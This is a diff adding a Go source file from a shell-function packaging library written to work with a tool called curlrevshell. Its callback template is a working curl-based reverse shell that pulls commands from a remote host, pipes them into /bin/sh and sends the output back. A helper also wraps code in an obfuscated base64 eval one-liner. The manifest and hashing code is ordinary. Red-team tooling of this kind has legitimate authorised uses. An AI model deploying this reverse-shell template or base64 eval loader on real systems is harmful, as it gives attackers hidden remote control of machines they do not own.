@@ -0,0 +1,189 @@
+package shellfuncsfile
+
+/*
+ * format.go
+ * Other ways to package shell functions
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+	"text/template"
+)
+
+// scriptMain is the name of the function which dispatches to other
+// functions in Script's output.
+const scriptMain = "main"
+
+// base64LineLen is the length of the lines of base64 we put in scripts.
+const base64LineLen = 76
+
+// heredocDelim delimits here-documents we generate.  It won't be found in
+// base64.
+const heredocDelim = "_shellfuncsfile"
+
+// scriptTemplate wraps functions in a script which calls one of them.
+var scriptTemplate = template.Must(template.New("script").Funcs(
+	template.FuncMap{"join": strings.Join},
+).Parse(`#!/bin/sh
+
+{{.Functions}}
+main() {
+	case "$1" in
+	{{join .Names "|"}}) "$@" ;;
+	*)
+		echo "Usage: $0 function [argument...]" >&2
+		echo "Functions: {{join .Names " "}}" >&2
+		exit 1
+		;;
+	esac
+}
+
+main "$@"
+`))
+
+// callbackTemplate is curlrevshell's default callback template, but with a
+// here-document with base64'd functions sent to the shell before anything
+// else.  It's used with fmt.Sprintf.
+const callbackTemplate = `{{- define "curl" -}}
+curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}
+{{- end -}}
+#!/bin/sh
+
+{{template "curl" .}}/i/{{.ID}} </dev/null 2>&0 |
+{ base64 -d <<'` + heredocDelim + `'
+%s
+` + heredocDelim + `
+cat; } |
+/bin/sh 2>&1 |
+{{template "curl" .}}/o/{{.ID}} -T- >/dev/null 2>&1
+`
+
+// OneLiner returns a single line of shell which base64-decodes and evals b.
+func OneLiner(b []byte) []byte {
+	return fmt.Appendf(
+		nil,
+		`eval "$(echo %s | base64 -d)"`+"\n",
+		base64.StdEncoding.EncodeToString(b),
+	)
+}
+
+// Script returns a standalone shell script containing the functions in b
+// which calls the function named by its first argument, e.g.
+//
+//	./script.sh funcname arg1 arg2
+//
+// The dispatching function is named main, which replaces any function named
+// main in b.
+func Script(b []byte) ([]byte, error) {
+	/* Need something to call. */
+	names := slices.DeleteFunc(functionNames(b), func(s string) bool {
+		return scriptMain == s
+	})
+	if 0 == len(names) {
+		return nil, errors.New("no functions found")
+	}
+
+	/* Roll the script. */
+	var ret bytes.Buffer
+	if err := scriptTemplate.Execute(&ret, struct {
+		Functions string
+		Names     []string
+	}{
+		Functions: string(b),
+		Names:     names,
+	}); nil != err {
+		return nil, fmt.Errorf("rolling script: %w", err)
+	}
+	return ret.Bytes(), nil
+}
+
+// CallbackTemplate returns a template suitable for curlrevshell's
+// -callback-template which sends the functions in b to the shell before
+// anything else.  The shell will need base64.
+func CallbackTemplate(b []byte) []byte {
+	/* Roll base64, in reasonably-sized lines. */
+	enc := base64.StdEncoding.EncodeToString(b)
+	var lines []string
+	for 0 != len(enc) {
+		n := min(base64LineLen, len(enc))
+		lines = append(lines, enc[:n])
+		enc = enc[n:]
+	}
+	return fmt.Appendf(nil, callbackTemplate, strings.Join(lines, "\n"))
+}
+
+// Manifest describes a set of shell functions.
+type Manifest struct {
+	Size      int                `json:"size"`
+	SHA256    string             `json:"sha256"`
+	Functions []ManifestFunction `json:"functions"`
+}
+
+// ManifestFunction describes one function in a Manifest.  Size and SHA256
+// cover the function's code as returned by SplitFunctions.
+type ManifestFunction struct {
+	Name   string `json:"name"`
+	Doc    string `json:"doc,omitempty"`
+	Size   int    `json:"size"`
+	SHA256 string `json:"sha256"`
+}
+
+// NewManifest describes the functions in b.  Docs come from lines starting
+// with DocPrefix.
+func NewManifest(b []byte) Manifest {
+	/* Get the docs. */
+	docs := make(map[string]string)
+	for _, line := range strings.Split(string(b), "\n") {
+		if name, desc, ok := parseDocLine(line); ok {
+			docs[name] = desc
+		}
+	}
+
+	/* Describe ALL the functions. */
+	m := Manifest{
+		Size:      len(b),
+		SHA256:    sha256Hex(b),
+		Functions: make([]ManifestFunction, 0),
+	}
+	for _, f := range SplitFunctions(b) {
+		if "" == f.Name {
+			continue
+		}
+		m.Functions = append(m.Functions, ManifestFunction{
+			Name:   f.Name,
+			Doc:    docs[f.Name],
+			Size:   len(f.Code),
+			SHA256: sha256Hex(f.Code),
+		})
+	}
+
+	return m
+}
+
+// functionNames returns the sorted, unique names of the functions in b.
+func functionNames(b []byte) []string {
+	var names []string
+	for _, f := range SplitFunctions(b) {
+		if "" != f.Name {
+			names = append(names, f.Name)
+		}
+	}
+	slices.Sort(names)
+	return slices.Compact(names)
+}
+
+// sha256Hex returns the hex-encoded SHA256 hash of b.
+func sha256Hex(b []byte) string {
+	h := sha256.Sum256(b)
+	return hex.EncodeToString(h[:])
+}